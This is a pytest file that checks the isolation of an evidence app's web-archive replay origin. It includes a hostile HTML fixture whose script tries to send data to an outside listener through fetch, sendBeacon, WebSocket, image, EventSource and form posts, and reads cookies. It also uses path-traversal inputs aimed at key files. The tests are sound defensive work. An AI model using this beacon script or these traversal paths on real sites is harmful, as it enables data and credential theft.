"""Replay on its own origin: only with a fresh ticket, for one archive, and a hostile page reaches nothing else."""

from __future__ import annotations

import hashlib
import re
import shutil
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Self
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error as BrowserError
from playwright.sync_api import Page, sync_playwright
from sqlalchemy import select

from capture.recorder import PageFacts, write_wacz
from capture.relay_model import Connection, Exchange, Recording
from caseapp.models import AuditEvent, CustodyEvent, EvidenceItem
from caseapp.services.evidence import register_files
from caseapp.services.sealing import seal_files
from caseapp.services.work import open_work
from caseapp.web import replay
from evidence_store import new_ulid
from tests.caseapp.web.house import PASSWORD, Browser, Place
from tests.caseapp.web.routes import ITEM
from tests.caseapp.web.serving import launch, served, sign_in

needs_viewer = pytest.mark.skipif(not replay.installed(), reason="the viewer is not among the fetched assets")
URL = "https://weixun.test/9900000101/PX260811"
HOSTILE = """<!doctype html><meta charset="utf-8"><title>博文</title><h1>出炉后要过一遍工业石蜡</h1><p id="o">…</p>
<script>
(async () => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  for (const view of [window, frame.contentWindow]) {
    for (const way of [
      () => view.fetch("%(there)sfetch", {credentials: "include", mode: "no-cors"}),
      () => view.navigator.sendBeacon("%(there)sbeacon", "x"),
      () => new view.WebSocket("%(there)ssocket".replace("http", "ws")),
      () => { new view.Image().src = "%(there)simage"; },
      () => new view.EventSource("%(there)sevents"),
      () => {
        if (view === window) return; // it would leave the page
        const form = Object.assign(view.document.createElement("form"), {action: "%(there)sform", method: "post"});
        (view.document.body || view.document.documentElement).append(form);
        form.submit();
      },
    ]) { try { await way(); } catch (error) { /* refused, as it should be */ } }
  }
  await new Promise((done) => setTimeout(done, 1500));
  const told = document.getElementById("o") || document.body.appendChild(document.createElement("p"));
  told.id = "o";
  told.textContent = "done, cookie: " + JSON.stringify(document.cookie);
})();
</script>"""


def keep(folder: Path, name: str, data: bytes) -> tuple[Path, str]:
    path = folder / name
    path.write_bytes(data)
    return path, hashlib.sha256(data).hexdigest()


def archive(folder: Path, page: str) -> Path:
    """A WACZ of one page."""
    folder.mkdir(parents=True)
    at = datetime(2026, 8, 13, 1, 2, 3, tzinfo=UTC)
    body, digest = keep(folder, "body", page.encode())
    one = Exchange(
        1, at, "GET", URL, at + timedelta(seconds=1), 200, "OK", "HTTP/1.1",
        response_headers=(("Content-Type", "text/html; charset=utf-8"),), response_body=body, response_sha256=digest,
        response_bytes=len(page.encode()), connection_id=1,
    )  # fmt: skip
    line = Connection(1, "weixun.test", 443, at, "93.184.216.34", 443, verdict="trusted")
    made = Recording((one,), (line,), (), (), started=at, finished=at)
    return write_wacz(made, folder / "capture.wacz", PageFacts(URL, "博文", "正文", at)).path


def with_archive(place: Place, page: str) -> str:
    """Register an item that holds the archive; returns its number."""
    folder = place.settings.data_dir.parent / "archive"
    shutil.rmtree(folder, ignore_errors=True)
    files = {"capture.wacz": archive(folder, page)}
    facts = {"url": URL}
    sealed = seal_files(place.application, files, seal_id=new_ulid(), folder=folder / "package", capture=facts)
    with open_work(place.application, place.people["xu"]) as work:
        item = register_files(work, sealed, title="可回放", kind="electronic", source=URL)
        item.facts = facts
        return item.no


class Ear:
    """A server elsewhere that the captured page tries to tell something."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        ear = self

        class Listen(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                ear.heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 - as above

            def log_message(self, *_args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Listen)
        self.address = f"http://127.0.0.1:{self._server.server_port}/"

    def __enter__(self) -> Self:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def both(place: Place) -> Iterator[str]:
    """Serve the application and, beside it, the other origin."""
    app = place.app()
    end = replay.serve_replay(app, place.application, "127.0.0.1")
    assert end is not None
    try:
        with served(app) as site:
            yield site
    finally:
        end()


@needs_viewer
def test_an_opening_is_on_record_and_leads_to_another_origin(place: Place) -> None:
    number = with_archive(place, "<h1>x</h1>")
    app = place.app()
    archivist = Browser(app.test_client())
    archivist.sign_in("xu")
    assert archivist.get(f"/evidence/{number}/replay").status_code == 404  # no second port is served
    assert 'aria-disabled="true"' in archivist.get(f"/evidence/{number}").text
    app.extensions[replay.EXTENSION] = 4321
    answer = archivist.get(f"/evidence/{number}/replay")
    assert answer.status_code == 302
    parts = urlsplit(answer.location)
    assert re.fullmatch(r"r[0-9a-f]{24}\.localhost:4321", parts.netloc)
    with place.application.sessions() as session:
        item = session.scalars(select(EvidenceItem).where(EvidenceItem.no == number)).one()
        found = select(CustodyEvent.type).where(CustodyEvent.evidence_id == item.id).order_by(CustodyEvent.seq)
        assert list(session.scalars(found))[-1] == "view"
        assert "evidence.read" in set(session.scalars(select(AuditEvent.action)))
    assert archivist.get(f"/evidence/{ITEM}/replay").status_code == 404  # it holds no archive
    stranger = Browser(app.test_client())
    stranger.sign_in("su")
    assert stranger.get(f"/evidence/{number}/replay").status_code == 403


@needs_viewer
def test_the_other_origin_knows_its_ticket_and_nothing_else(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    number = with_archive(place, "<h1>x</h1>")
    with place.application.sessions() as session:
        item = session.scalars(select(EvidenceItem).where(EvidenceItem.no == number)).one()
        ticket = replay.Ticket("someone", item.id, str(item.package_id), URL)
    app = place.app()
    app.extensions[replay.EXTENSION] = 80
    with app.test_request_context():
        address = urlsplit(replay.address(ticket))
    client = replay.create_replay_app(place.application).test_client(use_cookies=False)
    at: Any = {"base_url": f"http://{address.netloc}", "buffered": True}
    page = client.get(address.path, **at)
    assert page.status_code == 200
    assert "Set-Cookie" not in page.headers
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    whole = client.get(f"{address.path}capture.wacz", **at)
    part = client.get(f"{address.path}capture.wacz", headers={"Range": "bytes=0-3"}, **at)
    assert (part.status_code, part.data, len(whole.data) > 4) == (206, b"PK\x03\x04", True)
    far = client.get(f"{address.path}capture.wacz", headers={"Range": "bytes=0-10737418240"}, **at)
    assert len(far.data) == len(whole.data)
    for path, status in (
        ("../../keys/cookie.key", 404), ("capture.json", 404), ("replay/sw.js", 200), ("replay/", 200),
        ("%2e%2e/x", 404), ("replay/../../x", 404),
    ):  # fmt: skip
        assert client.get(address.path + path, **at).status_code == status, path
    token = address.path.strip("/")
    for other, host, status in (
        (token, "127.0.0.1", 404), (token, f"{replay.label('x')}.localhost", 404), ("x", "r.localhost", 404),
        (token[:-2], f"{replay.label(token[:-2])}.localhost", 410),
    ):  # fmt: skip
        assert client.get(f"/{other}/", base_url=f"http://{host}").status_code == status
    for method in (client.post, client.put, client.delete):
        assert method(address.path, **at).status_code == 405
    later = time.time() + replay.LIFETIME + 5
    monkeypatch.setattr(time, "time", lambda: later)
    assert client.get(address.path, **at).status_code == 410


@needs_viewer
def test_nothing_is_served_where_others_could_reach_it(place: Place) -> None:
    assert replay.serve_replay(place.app(), place.application, "0.0.0.0") is None  # noqa: S104 - refused


@pytest.mark.browser
@pytest.mark.slow
@needs_viewer
def test_a_hostile_page_plays_and_reaches_nobody(place: Place) -> None:
    with both(place) as site, Ear() as ear:
        number = with_archive(place, HOSTILE % {"there": ear.address})
        with sync_playwright() as playwright:
            browser = launch(playwright)
            context = browser.new_context(locale="zh-CN")
            sign_in(context, site, "xu", PASSWORD)
            page = context.new_page()
            page.goto(f"{site}/evidence/{number}")
            with context.expect_page() as opened:
                page.click("a.b:has-text('回放')")
            said, policy = said_by(opened.value)
            host = urlsplit(opened.value.url).hostname
            browser.close()
    assert said == 'done, cookie: ""'
    assert host is not None
    assert host.endswith(".localhost")
    assert ear.heard == []
    assert "default-src 'self'" in policy
    assert "ws:" not in policy


def said_by(page: Page) -> tuple[str, str]:
    """What the captured page wrote when it had tried everything, and the policy it runs under."""
    for _ in range(100):
        for frame in page.frames:
            with suppress(BrowserError):  # a frame may be on its way elsewhere
                told = frame.query_selector("#o") if "mp_/" in frame.url else None
                if told is not None and "done" in (text := told.inner_text()):
                    policy = frame.evaluate("async () => (await fetch('?')).headers.get('Content-Security-Policy')")
                    return text, str(policy)
        page.wait_for_timeout(200)
    raise AssertionError([frame.url for frame in page.frames])
